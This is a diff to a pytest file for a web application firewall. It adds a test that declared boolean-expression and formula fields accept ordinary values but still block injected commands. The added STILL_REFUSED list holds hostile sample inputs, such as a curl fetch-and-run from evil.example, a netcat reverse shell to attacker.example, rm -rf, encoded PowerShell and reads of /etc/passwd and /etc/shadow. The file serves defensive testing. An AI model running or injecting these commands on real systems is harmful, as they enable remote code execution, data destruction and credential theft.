@@ -14,12 +14,19 @@ import urllib.parse
 
 import pytest
 
-from sitegroup.waf import render_files
+from sitegroup.waf import filter_fields, render_files
 from tests.waf import attacks, factory
 from tests.waf.conftest import Tier
 from tests.waf.factory import BLOCKING, GATEWAY, declared_host, profile_host
 from tests.waf.harness import Req, as_citizens, send
-from tests.waf.test_filter_fields import FILTERS, INJECTIONS
+from tests.waf.test_filter_fields import (
+    BOOLEAN,
+    BOOLEAN_INJECTIONS,
+    FILTERS,
+    FORMULA_INJECTIONS,
+    FORMULAS,
+    INJECTIONS,
+)
 from tests.waf.test_render import OPTS
 
 TYPE = "application/x-site-json; charset=utf-8"
@@ -80,3 +87,39 @@ def test_a_declared_body_type_is_read_field_by_field(tier: Tier, profile: str) -
     assert _post(tier.port, host, "/api/site/letters", LETTER, TYPE + "; boundary=x") == 403
     assert _post(tier.port, host, "/api/other/letters", LETTER) == 403
     assert _post(tier.port, profile_host(profile), "/api/site/letters", LETTER) == 403
+
+
+# Declared on the d-<profile> sites (factory.SITE_RULES, SITE_FORMULA): (path, JSON key, values, injections).
+JSON_FIELDS = {"boolean-expression": ("/rules/save", "expr", BOOLEAN, BOOLEAN_INJECTIONS),
+               "formula": ("/calc/evaluate", "formula", FORMULAS, FORMULA_INJECTIONS)}
+# Values of the grammar, so the SQL rules leave them, that other rules refuse on the declaring site: a boolean
+# expression's '&&' and '|' are the shell's too, and a formula's division is a path's slash.
+# ("A && id" is an expression of two conditions, and no profile refuses it in any parameter, declared or not.)
+STILL_REFUSED = {
+    "boolean-expression": ["A && whoami", "A || curl", "A && curl evil.example -o x.sh && sh x.sh", "A && wget",
+                           "(A|B) | nc -e sh attacker.example 4444", "A && ping -n 3 attacker.example",
+                           "A && rm -rf tmp", "A && powershell -enc abc"],
+    "formula": ["cat /etc/passwd", "x + etc/shadow"],
+}
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("profile", BLOCKING)
+@pytest.mark.parametrize("language", JSON_FIELDS)
+def test_declared_boolean_and_formula_fields(tier: Tier, profile: str, language: str) -> None:
+    path, key, values, injections = JSON_FIELDS[language]
+    host, plain_host = declared_host(profile), profile_host(profile)
+
+    def status(h: str, value: str) -> int:
+        return _post(tier.port, h, path, {"id": 7, key: value}, "application/json")
+
+    refused = [v for v in values if status(host, v) != 200]
+    assert not refused, f"{profile}: ordinary {language} values refused on the declaring site: {refused}"
+    refused_plain = [v for v in injections if status(plain_host, v) == 403]
+    served = [v for v in refused_plain if status(host, v) != 403]
+    assert len(refused_plain) >= 10 and not served, f"{profile}: injections served in the declared field: {served}"
+    plain = [v for v in values if status(plain_host, v) != 200]
+    assert plain, f"{profile}: every {language} value passes without the declaration; the test shows nothing"
+    assert all(filter_fields.matches(language, c) for c in STILL_REFUSED[language])
+    served = [c for c in STILL_REFUSED[language] if status(host, c) != 403]
+    assert not served, f"{profile}: commands or paths in a declared {language} field served: {served}"
